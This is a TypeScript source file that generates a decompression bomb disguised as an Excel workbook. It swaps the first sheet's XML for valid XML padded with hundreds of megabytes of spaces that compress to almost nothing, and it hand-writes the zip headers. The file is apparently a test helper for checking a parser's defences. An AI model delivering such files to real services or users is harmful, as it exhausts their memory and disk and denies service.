/**
 * A zip bomb shaped like a workbook: a real workbook whose first sheet is replaced by valid XML
 * padded with hundreds of MB of spaces, which deflate to almost nothing. Written entry by
 * entry, so making it never holds the inflated sheet in memory.
 */
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import zlib from 'node:zlib';
import PizZip from 'pizzip';

interface Entry {
  name: string;
  crc: number;
  size: number;
  deflated: Buffer;
}

export async function writeZipBomb(workbook: Buffer, target: string, inflatedBytes: number): Promise<void> {
  const source = new PizZip(workbook);
  const entries: Entry[] = [];
  for (const file of Object.values(source.files)) {
    if (file.dir) continue;
    if (file.name === 'xl/worksheets/sheet1.xml') {
      entries.push(await paddedSheet(file.name, inflatedBytes));
    } else {
      const data = Buffer.from(file.asUint8Array());
      entries.push({ name: file.name, crc: zlib.crc32(data), size: data.length, deflated: zlib.deflateRawSync(data) });
    }
  }
  writeFileSync(target, zipOf(entries));
}

async function paddedSheet(name: string, inflatedBytes: number): Promise<Entry> {
  const head = Buffer.from('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>');
  const tail = Buffer.from('</sheetData></worksheet>');
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  let crc = 0;
  let size = 0;
  const write = async (data: Buffer) => {
    crc = zlib.crc32(data, crc);
    size += data.length;
    if (!deflate.write(data)) await once(deflate, 'drain');
  };
  await write(head);
  for (let written = head.length + tail.length; written < inflatedBytes; written += spaces.length) await write(spaces);
  await write(tail);
  deflate.end();
  await once(deflate, 'end');
  return { name, crc, size, deflated: Buffer.concat(chunks) };
}

/** The fields a local header and a directory entry share, from flags to the name's length (UTF-8 names, deflate, 1980-01-01). */
function writeEntryFields(header: Buffer, at: number, entry: Entry, nameLength: number): void {
  header.writeUInt16LE(0x0800, at);
  header.writeUInt16LE(8, at + 2);
  header.writeUInt16LE(0x21, at + 6);
  header.writeUInt32LE(entry.crc, at + 8);
  header.writeUInt32LE(entry.deflated.length, at + 12);
  header.writeUInt32LE(entry.size, at + 16);
  header.writeUInt16LE(nameLength, at + 20);
}

/** A plain zip (no ZIP64, DOS date 1980-01-01): local headers and data, then the central directory. */
function zipOf(entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    writeEntryFields(local, 6, entry, name.length);
    locals.push(local, name, entry.deflated);

    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    writeEntryFields(central, 8, entry, name.length);
    central.writeUInt32LE(offset, 42);
    directory.push(central, name);
    offset += 30 + name.length + entry.deflated.length;
  }
  const directorySize = directory.reduce((sum, b) => sum + b.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directorySize, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, ...directory, end]);
}
